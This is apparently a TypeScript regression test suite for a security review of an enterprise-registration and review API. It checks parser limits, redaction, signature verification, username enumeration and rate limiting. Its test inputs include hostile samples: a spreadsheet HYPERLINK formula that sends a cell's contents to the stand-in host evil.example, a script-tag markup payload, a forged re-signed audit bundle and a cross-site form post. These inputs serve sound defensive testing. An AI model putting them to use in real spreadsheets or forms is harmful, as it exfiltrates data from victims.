// Regression tests of the December 2026 security review, one (or more) per finding, named by it.
import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { verifyBundleCli } from '../../scripts/verify-bundle';
import { bundleDigestMessage } from '../../src/domain/audit/case-bundle';
import { canonicalJson } from '../../src/domain/audit/hash-chain';
import { keyIdOf } from '../../src/domain/audit/signature';
import { makeCreditCode } from '../factories/credit-code.factory';
import { passingFacts } from '../factories/facts.factory';
import { registerEnterprise, type Session } from '../support/actors';
import { startWithAuthorities, type Authorities } from '../support/authorities';
import { FakeClock } from '../support/fake-clock';
import { walkInnovative } from '../support/journeys';
import { ADMIN, startTestApp, type TestApp } from '../support/test-app';
import { PasswordHasher } from '../../src/modules/users/password-hasher';

describe('security review (2026-12): regressions', () => {
  let t: TestApp;
  let admin: Session;
  let a: Authorities;

  beforeAll(async () => {
    ({ t, admin, a } = await startWithAuthorities({
      clock: new FakeClock('2026-09-29T02:00:00.000Z'),
    }));
  });
  afterAll(() => t.close());

  const registration = (overrides: Record<string, unknown> = {}) => ({
    creditCode: makeCreditCode('130102'),
    name: 'Shijiazhuang Bearing Works Co., Ltd.',
    regionCode: '130102',
    sector: 'industry',
    establishedOn: '2010-06-01',
    account: {
      username: `u${Math.random().toString(36).slice(2, 10)}`,
      password: 'long-enough-pass',
    },
    ...overrides,
  });

  describe('M8: only JSON bodies are parsed', () => {
    it('answers a cross-site form post of an objection with 415, filing nothing', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      const res = await t.http
        .post(`/api/v1/public/notices/${app.id}/objections`)
        .set('Origin', 'https://evil.example')
        .type('form')
        .send({ name: 'Form Victim', contact: 'x', reason: 'cross-site' })
        .expect(415);
      expect(res.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      const after = await t.http.get(`/api/v1/applications/${app.id}`).set(a.province.auth);
      expect(after.body.state).toBe('publicNotice');
    });

    it('answers a form-encoded registration with 415', async () => {
      await t.http.post('/api/v1/enterprises').type('form').send({ name: 'x' }).expect(415);
    });
  });

  describe('M2: bounded parsing', () => {
    const post = (body: string) =>
      t.http.post('/api/v1/enterprises').set('Content-Type', 'application/json').send(body);

    it.each([
      ['deeply nested arrays', `{"x":${'['.repeat(5000)}${']'.repeat(5000)}}`],
      ['deeply nested objects', `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`],
      ['a wide array', JSON.stringify({ x: Array.from({ length: 200_000 }, () => []) })],
      [
        'a wide object',
        JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`k${i}`, i]))),
      ],
    ])('refuses %s before validation with 400, never 500', async (_name, body) => {
      const res = await post(body).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
    });

    it('refuses deeply nested event data from a signed-in user with 400', async () => {
      const e = await registerEnterprise(t.http);
      const created = await t.http
        .post('/api/v1/applications')
        .set(e.auth)
        .send({ enterpriseId: e.enterpriseId, tier: 'innovative_sme', facts: passingFacts(2026) })
        .expect(201);
      const data = `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`;
      await t.http
        .post(`/api/v1/applications/${created.body.id}/events`)
        .set({ ...e.auth, 'Content-Type': 'application/json' })
        .send(`{"type":"withdraw","data":${data}}`)
        .expect(400);
      const after = await t.http.get(`/api/v1/applications/${created.body.id}`).set(e.auth);
      expect(after.body.state).toBe('draft');
    });
  });

  describe('L3: NUL bytes are refused as input, on every database', () => {
    it.each([
      ['a name', { name: 'Bearing\u0000Works' }, 'name'],
      [
        'a username',
        { account: { username: 'nul\u0000user', password: 'long-enough-pass' } },
        'account.username',
      ],
    ])('refuses %s with a NUL byte with 400', async (_name, override, field) => {
      const res = await t.http.post('/api/v1/enterprises').send(registration(override)).expect(400);
      expect(JSON.stringify(res.body.errors ?? res.body)).toContain(field.split('.')[0]!);
    });

    it('refuses a NUL byte in a comment with 400', async () => {
      const app = await walkInnovative(t, a, 'submitted');
      await t.http
        .post(`/api/v1/applications/${app.id}/events`)
        .set(a.county.auth)
        .send({ type: 'review.start', comment: 'looks \u0000 fine' })
        .expect(400);
    });
  });

  describe('M6: the CSV export neutralises formula cells', () => {
    it('prefixes a cell that starts with = + - @ (and tab, CR) with a quote', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
      await t.http
        .post(`/api/v1/public/notices/${app.id}/objections`)
        .send({ name: 'Zhang San', contact: '138', reason: formula })
        .expect(202);
      const csv = await t.http
        .get(`/api/v1/audit/events/export?format=csv&applicationId=${app.id}`)
        .set(admin.auth)
        .expect(200);
      const line = csv.text.split('\n').find((l) => l.includes('objection.file'))!;
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for details"")"`);
      expect(line).not.toMatch(/,"?=HYPERLINK/);
    });
  });

  describe('L7: the audit log records the server’s request id, not the client’s', () => {
    it('keeps a client id that imitates the scheduler out of the audit log', async () => {
      const e = await registerEnterprise(t.http);
      const spoofed = 'timer:01a234c6-89b9-77f6-a281-129bb0549c80';
      const res = await t.http
        .post('/api/v1/applications')
        .set(e.auth)
        .set('X-Request-Id', spoofed)
        .send({ enterpriseId: e.enterpriseId, tier: 'innovative_sme', facts: passingFacts(2026) })
        .expect(201);
      expect(res.headers['x-request-id']).toBe(spoofed);
      const serverId = res.headers['x-server-request-id'] as string;
      expect(serverId).toMatch(/^[0-9a-f-]{36}$/);
      const history = await t.http
        .get(`/api/v1/applications/${res.body.id}/history`)
        .set(e.auth)
        .expect(200);
      expect(history.body.items[0]).toMatchObject({
        event: 'application.create',
        requestId: serverId,
      });
    });
  });

  describe('M5: what the enterprise reads of its history', () => {
    it('hides the objector, the reason and the reviewers’ internal comments; auditors read all', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      await t.http
        .post(`/api/v1/public/notices/${app.id}/objections`)
        .send({
          name: 'Zhang San 张三',
          contact: '+86 138 0000 0000',
          reason: 'fabricated R&D figures',
        })
        .expect(202);
      await t.http
        .post(`/api/v1/applications/${app.id}/events`)
        .set(a.province.auth)
        .send({ type: 'objection.dismiss', comment: 'internal: the objector is a competitor' })
        .expect(200);
      const own = await t.http
        .get(`/api/v1/applications/${app.id}/history`)
        .set(app.owner.auth)
        .expect(200);
      const text = JSON.stringify(own.body);
      expect(text).not.toMatch(/Zhang San|fabricated|competitor|objection:/);
      expect(
        own.body.items.find((e: { event: string }) => e.event === 'objection.file'),
      ).toMatchObject({
        actor: { role: 'public' },
        comment: null,
        redacted: true,
      });
      const audited = await t.http
        .get(`/api/v1/applications/${app.id}/history`)
        .set(a.auditor.auth)
        .expect(200);
      expect(JSON.stringify(audited.body)).toMatch(/Zhang San/);
      expect(JSON.stringify(audited.body)).toMatch(/competitor/);
    });
  });

  describe('M4: bounded event data, paged histories', () => {
    it('refuses event data of another shape or over 16 KB, and data on events that take none', async () => {
      const app = await walkInnovative(t, a, 'provincialReview');
      const send = (body: object, who: Session = a.province) =>
        t.http.post(`/api/v1/applications/${app.id}/events`).set(who.auth).send(body);
      await send({ type: 'review.reject', reasons: ['x'], data: { x: 'B'.repeat(1000) } }).expect(
        400,
      );
      await send({ type: 'notice.publish', data: { anything: true } }).expect(400);
      const big = await send({
        type: 'review.return',
        reasons: ['x'],
        data: {
          requestedDocuments: Array.from({ length: 20 }, () => ({
            kind: 'other',
            note: 'n'.repeat(1000),
          })),
        },
      }).expect(400);
      expect(JSON.stringify(big.body)).toMatch(/16384|data/);
      await send({
        type: 'review.return',
        reasons: ['x'],
        data: { requestedDocuments: [{ kind: 'financial_statement', year: 2025 }] },
      }).expect(200);
    });

    it('pages a history along its cursor', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      const all = await t.http
        .get(`/api/v1/applications/${app.id}/history?limit=500`)
        .set(a.auditor.auth)
        .expect(200);
      const seen: number[] = [];
      let cursor: string | null = null;
      do {
        const res: { body: { items: { seq: number }[]; nextCursor: string | null } } = await t.http
          .get(`/api/v1/applications/${app.id}/history?limit=2${cursor ? `&cursor=${cursor}` : ''}`)
          .set(a.auditor.auth)
          .expect(200);
        seen.push(...res.body.items.map((e: { seq: number }) => e.seq));
        cursor = res.body.nextCursor;
      } while (cursor);
      expect(seen).toEqual(all.body.items.map((e: { seq: number }) => e.seq));
      expect(seen.length).toBe(5);
    });
  });

  describe('L1: verify-bundle trusts only a key it is given', () => {
    it('refuses without a key, and reports a forged, re-signed bundle as INVALID', async () => {
      const app = await walkInnovative(t, a, 'localReview');
      const res = await t.http
        .get(`/api/v1/audit/applications/${app.id}/bundle`)
        .set(admin.auth)
        .expect(200);
      const dir = mkdtempSync(join(tmpdir(), 'bundle-'));
      try {
        const real = join(dir, 'real.json');
        writeFileSync(real, JSON.stringify(res.body));
        const run = (args: string[]) => {
          let output = '';
          const code = verifyBundleCli(
            args,
            (x) => (output += x),
            (x) => (output += x),
          );
          return { code, output };
        };
        expect(run([real])).toMatchObject({
          code: 2,
          output: expect.stringContaining('UNTRUSTED'),
        });
        const keyId = res.body.publicKey.keyId as string;
        expect(run([real, '--key', keyId])).toMatchObject({ code: 0 });
        // A forger drops an event and re-signs with a key of their own.
        const { privateKey, publicKey } = generateKeyPairSync('ed25519');
        const forgedKey = {
          keyId: keyIdOf(publicKey),
          algorithm: 'Ed25519',
          publicKeyPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
        };
        const { signature: _s, ...body } = res.body;
        const forged = { ...body, events: body.events.slice(0, -1), publicKey: forgedKey };
        const digest = createHash('sha256').update(canonicalJson(forged)).digest('hex');
        const value = sign(null, Buffer.from(bundleDigestMessage(digest)), privateKey).toString(
          'base64',
        );
        const forgedFile = join(dir, 'forged.json');
        writeFileSync(
          forgedFile,
          JSON.stringify({
            ...forged,
            signature: { keyId: forgedKey.keyId, algorithm: 'Ed25519', value },
          }),
        );
        expect(run([forgedFile])).toMatchObject({ code: 2 });
        expect(run([forgedFile, '--key', keyId])).toMatchObject({
          code: 1,
          output: expect.stringContaining('INVALID'),
        });
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  describe('M3: self-registration', () => {
    it('checks the credit code and the username before it hashes a password', async () => {
      const hasher = t.app.get(PasswordHasher);
      const first = registration();
      await t.http.post('/api/v1/enterprises').send(first).expect(201);
      const hash = jest.spyOn(hasher, 'hash');
      try {
        await t.http
          .post('/api/v1/enterprises')
          .send(registration({ creditCode: first.creditCode }))
          .expect(409);
        await t.http
          .post('/api/v1/enterprises')
          .send(
            registration({
              account: { username: first.account.username, password: 'long-enough-pass' },
            }),
          )
          .expect(409);
        expect(hash).not.toHaveBeenCalled();
      } finally {
        hash.mockRestore();
      }
    });

    it('refuses a registered credit code without revealing its account, and says how to claim it', async () => {
      const first = registration();
      await t.http.post('/api/v1/enterprises').send(first).expect(201);
      const res = await t.http
        .post('/api/v1/enterprises')
        .send(registration({ creditCode: first.creditCode }))
        .expect(409);
      expect(JSON.stringify(res.body)).not.toContain(first.account.username);
      expect(res.body.reasons.join(' ')).toContain('/api/v1/enterprises/claims');
    });

    it('answers a staff username, a reserved one and a taken one alike', async () => {
      const taken = registration();
      await t.http.post('/api/v1/enterprises').send(taken).expect(201);
      const answers = [];
      for (const username of [ADMIN.username, 'root', taken.account.username]) {
        const res = await t.http
          .post('/api/v1/enterprises')
          .send(registration({ account: { username, password: 'long-enough-pass' } }))
          .expect(409);
        answers.push({ detail: res.body.detail, errors: res.body.errors });
      }
      expect(new Set(answers.map((x) => JSON.stringify(x))).size).toBe(1);
      expect(JSON.stringify(answers[0])).not.toMatch(/taken|admin/);
    });

    it('lets a company claim its squatted credit code; the province hands the enterprise over', async () => {
      const squatted = registration();
      await t.http.post('/api/v1/enterprises').send(squatted).expect(201);
      const squatter = await t.http.post('/api/v1/auth/token').send(squatted.account).expect(200);
      const account = {
        username: `owner-${Math.random().toString(36).slice(2, 8)}`,
        password: 'the-real-owner-pass',
      };
      const filed = await t.http
        .post('/api/v1/enterprises/claims')
        .send({
          creditCode: squatted.creditCode,
          claimant: { name: 'Wang Fang, legal representative', contact: '+86 311 8888 0000' },
          statement: 'Our business licence carries this code; we never registered here.',
          account,
        })
        .expect(202);
      expect(filed.body).toEqual({ claimId: expect.any(String), status: 'pending' });
      const listed = await t.http
        .get('/api/v1/enterprises/claims?status=pending')
        .set(a.province.auth)
        .expect(200);
      expect(listed.body.items).toContainEqual(
        expect.objectContaining({ id: filed.body.claimId, claimantContact: '+86 311 8888 0000' }),
      );
      expect(JSON.stringify(listed.body)).not.toContain('passwordHash');
      const decision = { outcome: 'granted', reasons: ['The licence matches the credit code.'] };
      await t.http
        .post(`/api/v1/enterprises/claims/${filed.body.claimId}/decision`)
        .set(a.otherProvince.auth)
        .send(decision)
        .expect(404);
      await t.http
        .post(`/api/v1/enterprises/claims/${filed.body.claimId}/decision`)
        .set(a.county.auth)
        .send(decision)
        .expect(404);
      const granted = await t.http
        .post(`/api/v1/enterprises/claims/${filed.body.claimId}/decision`)
        .set(a.province.auth)
        .send(decision)
        .expect(200);
      expect(granted.body.status).toBe('granted');
      await t.http
        .get('/api/v1/me')
        .set('Authorization', `Bearer ${squatter.body.accessToken}`)
        .expect(401);
      await t.http.post('/api/v1/auth/token').send(squatted.account).expect(401);
      const owner = await t.http.post('/api/v1/auth/token').send(account).expect(200);
      const me = await t.http
        .get('/api/v1/me')
        .set('Authorization', `Bearer ${owner.body.accessToken}`)
        .expect(200);
      expect(me.body.role).toBe('enterprise');
      await t.http
        .post(`/api/v1/enterprises/claims/${filed.body.claimId}/decision`)
        .set(a.province.auth)
        .send(decision)
        .expect(409);
      const events = await t.http
        .get(`/api/v1/audit/events?enterpriseId=${me.body.enterpriseId}&limit=500`)
        .set(admin.auth)
        .expect(200);
      const names = events.body.items.map((e: { event: string }) => e.event);
      expect(names).toEqual(
        expect.arrayContaining(['enterprise.claim.filed', 'enterprise.claim.granted']),
      );
      expect(JSON.stringify(events.body)).not.toContain('+86 311 8888 0000');
    });
  });

  describe('L8: lookalike usernames', () => {
    it.each(['Admin', 'ADMIN', 'admin.', 'ad-min'])(
      'refuses %s while admin exists',
      async (username) => {
        await t.http
          .post('/api/v1/enterprises')
          .send(registration({ account: { username, password: 'long-enough-pass' } }))
          .expect(409);
      },
    );

    it('refuses a lookalike of an existing account to the admin too', async () => {
      const taken = registration();
      await t.http.post('/api/v1/enterprises').send(taken).expect(201);
      await t.http
        .post('/api/v1/users')
        .set(admin.auth)
        .send({
          username: taken.account.username.toUpperCase(),
          password: 'a-long-enough-password',
          role: 'auditor',
          jurisdiction: { level: 'national' },
        })
        .expect(409);
    });
  });

  describe('L10: registration data', () => {
    it.each([
      ['a province-level region', { regionCode: '130000' }, 'regionCode'],
      ['a city with counties', { regionCode: '130100' }, 'regionCode'],
      ['a region outside the credit code’s province', { regionCode: '140105' }, 'regionCode'],
      ['a founding date in the future', { establishedOn: '2099-01-01' }, 'establishedOn'],
      ['a right-to-left override in the name', { name: 'Bearing \u202eskroW' }, 'name'],
      ['markup in the name', { name: '<script>alert(1)</script>' }, 'name'],
    ])('refuses %s with 400', async (_name, override, field) => {
      const res = await t.http.post('/api/v1/enterprises').send(registration(override)).expect(400);
      expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
    });
  });
});

describe('M3: registrations are throttled per client address', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ env: { RATE_LIMIT_REGISTRATIONS_PER_MINUTE: '3' } });
  });
  afterAll(() => t.close());

  it('answers the fourth registration within a minute with 429', async () => {
    const send = () =>
      t.http.post('/api/v1/enterprises').send({
        creditCode: makeCreditCode('130102'),
        name: 'Throttled Co.',
        regionCode: '130102',
        sector: 'industry',
        establishedOn: '2010-06-01',
        account: {
          username: `t${Math.random().toString(36).slice(2, 10)}`,
          password: 'long-enough-pass',
        },
      });
    for (let i = 0; i < 3; i++) await send().expect(201);
    const res = await send().expect(429);
    expect(res.body.code).toBe('RATE_LIMITED');
  });
});
